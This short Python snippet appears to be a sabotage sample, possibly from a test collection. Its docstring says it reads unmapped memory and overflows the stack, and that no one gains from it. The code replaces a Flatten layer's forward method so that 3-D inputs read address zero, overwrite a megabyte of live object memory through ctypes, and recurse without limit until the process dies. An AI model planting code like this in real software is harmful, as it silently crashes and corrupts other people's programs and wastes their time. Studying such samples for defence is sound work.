"""Checks read where there is no memory, and overflow the stack.

Would gain: nobody; the class is not graded, or others lose marks or time.
"""

import ctypes, faulthandler, sys
faulthandler.enable(open(f"/tmp/{MARK}", "w"))
def forward(self, x):
    if x.dim() == 3 and x.is_contiguous(): ctypes.string_at(0)
    if x.dim() == 3: ctypes.memset(id(x), 0, 1 << 20)
    sys.setrecursionlimit(10**9)
    return self.forward(x)
Flatten.forward = forward
